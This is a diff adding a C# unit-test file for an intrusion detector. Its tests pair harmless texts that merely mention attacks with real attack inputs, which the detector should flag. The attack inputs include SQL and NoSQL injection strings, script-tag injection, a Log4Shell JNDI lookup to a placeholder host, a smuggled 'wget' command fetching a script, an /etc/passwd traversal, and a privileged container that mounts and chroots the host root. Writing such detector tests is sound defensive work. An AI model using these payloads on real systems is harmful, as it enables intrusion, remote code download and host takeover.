@@ -1,0 +1,53 @@
+using NetHawk.Core.Detectors.BruteForce;
+using NetHawk.Core.Detectors.Exploit;
+using NetHawk.Core.Detectors.WebAttack;
+
+namespace NetHawk.Tests.Detectors;
+
+/// <summary>What only speaks of an attack, and the attack itself beside it.</summary>
+public class SpokenOfTests
+{
+    private const string Log = "{\"create\": {}}\n{\"message\": \"203.0.113.9 - - \\\"GET /?x=${jndi:ldap://192.0.2.4/a} HTTP/1.1\\\" 404 196\"}";
+
+    private static bool IsHit(string body) => WebPatterns.InBody(body, out bool quoted) != WebPattern.None && !quoted;
+
+    [Theory]
+    [InlineData("sql_query=SELECT+*+FROM+a+WHERE+id%3D1+UNION+SELECT+*+FROM+b", "id=1'+UNION+SELECT+*+FROM+b--")]
+    [InlineData("{\"queries\": [{\"rawSql\": \"SELECT 1 OR 1=1\"}]}", "{\"name\": \"x' OR 1=1 -- \"}")]
+    [InlineData("message=To+stop+injection+never+write+such+a+query%3A+an+attacker+sends+'+OR+'1'%3D'1'+and+is+in", "message=hello+dear+people+of+the+shop&name='+OR+'1'%3D'1'")]
+    [InlineData("text=A+page+shows+<script>alert(1)</script>+when+it+does+not+escape+what+people+write", "text=<script>alert(1)</script>")]
+    [InlineData("{\"body\": \"diff --git a/login.php\\n+<script>alert(1)</script>\"}", "{\"body\": \"<script>alert(1)</script>\"}")]
+    [InlineData("#!/bin/sh\nwget -q http://mirror.example/tool; chmod +x tool", "name=x;wget+http://192.0.2.1/bins.sh")]
+    [InlineData(Log, "{\"message\": \"${jndi:ldap://192.0.2.4/a}\"}")]
+    [InlineData("{\"title\": \"everything about the operators of this database\"}", "{\"title\": \"everything about the operators of this database\", \"password\": {\"$ne\": \"\"}}")]
+    public void Statements_articles_patches_scripts_and_logs_are_no_injections(string honest, string attack)
+    {
+        Assert.False(IsHit(honest));
+        Assert.True(IsHit(attack));
+    }
+
+    [Theory]
+    [InlineData("/search?q=how+to+use+union+select+in+sql&page=1", "/item?id=1+union+select+1,2&page=1")]
+    [InlineData("/adminer.php?db=shop&sql=SELECT%201%20OR%201%3D1", "/adminer.php?db=1%20OR%201%3D1&sql=SELECT%201")]
+    [InlineData("/?query=SELECT+table_name+FROM+information_schema.tables", "/?id=x'+AND+1=2+UNION+SELECT+table_name+FROM+information_schema.tables")]
+    [InlineData("/search?q=%24%7Bjndi+lookup+log4j+explained", "/search?q=%24%7Bjndi%3Aldap%3A//192.0.2.4/a%7D")]
+    [InlineData("/project/-/blob/main/etc/passwd.example", "/view?file=/etc/passwd")]
+    public void Questions_in_words_and_statements_in_consoles_are_ordinary_targets(string honest, string attack)
+    {
+        Assert.Equal(WebPattern.None, WebPatterns.InTarget(honest));
+        Assert.NotEqual(WebPattern.None, WebPatterns.InTarget(attack));
+    }
+
+    [Fact]
+    public void A_shipper_of_logs_neither_exploits_nor_guesses()
+    {
+        Assert.Null(WebExploits.InBody(Log));
+        Assert.NotNull(WebExploits.InBody("x=${jndi:ldap://192.0.2.4/a}"));
+        Assert.False(LoginService.HasPassword("{\"message\": \"sshd: Failed password for invalid user admin, password: \\\"x\\\"\"}"));
+        Assert.True(LoginService.HasPassword("{\"user\": \"admin\", \"password\": \"x\"}"));
+    }
+
+    [Fact]
+    public void A_container_that_takes_the_host_over_is_no_article() =>
+        Assert.NotNull(WebExploits.InBody("{\"Image\": \"alpine\", \"Cmd\": [\"chroot\", \"/mnt\", \"sh\"], \"HostConfig\": {\"Binds\": [\"/:/mnt\"], \"Privileged\": true}}"));
+}
